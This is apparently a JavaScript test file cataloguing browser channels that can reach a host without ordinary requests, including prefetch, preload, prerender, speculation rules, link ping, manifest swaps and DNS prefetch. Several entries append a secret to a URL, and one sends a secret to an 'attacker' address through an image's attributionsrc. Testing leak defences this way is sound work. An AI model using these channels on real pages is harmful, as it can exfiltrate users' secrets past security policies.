/**
 * Channels by resource hints, speculation rules and other links, mostly requests to fetch something in advance. Some
 * hints only look up a name or open a connection.
 */

way("prefetch", ({ address }) => hint("prefetch", address));
way("prefetch of a page", ({ address }) => hint("prefetch", `${address}.html`, { as: "document" }));
way("prerender by a link", ({ address }) => hint("prerender", `${address}.html`));
way("preload: fetch", ({ address }) => hint("preload", address, { as: "fetch", crossorigin: "" }));
way("preload: image", ({ address }) => hint("preload", `${address}.png`, { as: "image" }));
way("preload: image set", ({ address }) => put("link", { rel: "preload", as: "image", imagesrcset: `${address}.png 1x` }, document.head));
way("preload: style", ({ address }) => hint("preload", `${address}.css`, { as: "style" }));
way("preload: script", ({ address }) => hint("preload", `${address}.js`, { as: "script" }));
way("preload: font", ({ address }) => hint("preload", `${address}.woff2`, { as: "font", crossorigin: "" }));
way("preload: subtitles", ({ address }) => hint("preload", `${address}.vtt`, { as: "track", crossorigin: "" }));
way("preload of a module", ({ address }) => hint("modulepreload", `${address}.js`));
way("preload of a module as a worker", ({ address }) => hint("modulepreload", `${address}.js`, { as: "worker" }));
way("look-up of a name", ({ name }) => hint("dns-prefetch", `//${name}/`));
way("look-up of a link's name", ({ name }) => {
  put("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }, document.head);
  put("a", { href: `http://${name}/` }).append("link");
});
way("connection in advance", ({ trap }) => hint("preconnect", `http://127.0.0.1:${trap}/`), { trap: true });
way("connection in advance, for scripts", ({ trap }) => hint("preconnect", `http://127.0.0.1:${trap}/`, { crossorigin: "" }), { trap: true });
way("look-up of a name for a connection in advance", ({ name }) => hint("preconnect", `http://${name}/`));
way("manifest", ({ address }) => onlyManifest(`${address}.json`), ALONE);
way("dictionary for compression", ({ address }) => hint("compression-dictionary", address));
way("pingback, search and other links", ({ address }) => {
  for (const rel of ["pingback", "search", "import", "author", "next", "payment", "monetization", "me", "help"]) hint(rel, address);
});
way("speculation rules: prefetch", ({ address }) => speculate({ prefetch: [{ urls: [`${address}.html`], eagerness: "immediate" }] }));
way("speculation rules: prerender", ({ address }) => speculate({ prerender: [{ urls: [`${address}.html`], eagerness: "immediate" }] }));
way("speculation rules for the page's links", ({ address }) => {
  put("a", { href: `${address}.html`, class: "speculated" }).append("link");
  speculate({ prefetch: [{ where: { selector_matches: ".speculated" }, eagerness: "immediate" }] });
});
way("link pinged", ({ address }) => put("a", { href: "#pinged", ping: address }).click());
way("picture that reports a source", ({ attacker, secret }) => put("img", { attributionsrc: `${attacker}/${secret}`, src: "data:image/gif;base64,R0lGODlhAQABAAAAACw=" }));

way("own host: prefetch", ({ own, secret }) => hint("prefetch", `${own}/?${secret}`));
way("own host: preload", ({ own, secret }) => hint("preload", `${own}/?${secret}`, { as: "fetch", crossorigin: "" }));
way("own host: preload of a module", ({ own, secret }) => hint("modulepreload", `${own}/app/latest.mjs?${secret}`));
way("own host: manifest", ({ own, secret }) => onlyManifest(`${own}/?${secret}`), ALONE);
way("own host: speculation rules, prefetch", ({ own, secret }) => speculate({ prefetch: [{ urls: [`${own}/about/?${secret}`], eagerness: "immediate" }] }));
way("own host: speculation rules, prerender", ({ own, secret }) => speculate({ prerender: [{ urls: [`${own}/about/licences/?${secret}`], eagerness: "immediate" }] }));
way("own host: link pinged", ({ own, secret }) => put("a", { href: "#pinged", ping: `${own}/?${secret}` }).click());

/** @param {string} rel @param {string} href @param {Record<string, string>} [more] */
function hint(rel, href, more = {}) {
  put("link", { rel, href, ...more }, document.head);
}

/** Replaces the link to the manifest, because the browser uses only the first. @param {string} href */
function onlyManifest(href) {
  for (const link of document.querySelectorAll("link[rel=manifest]")) link.remove();
  hint("manifest", href);
}

/** @param {object} rules */
function speculate(rules) {
  const script = document.createElement("script");
  script.type = "speculationrules";
  script.textContent = trusted().createScript(JSON.stringify(rules));
  document.head.append(script);
}
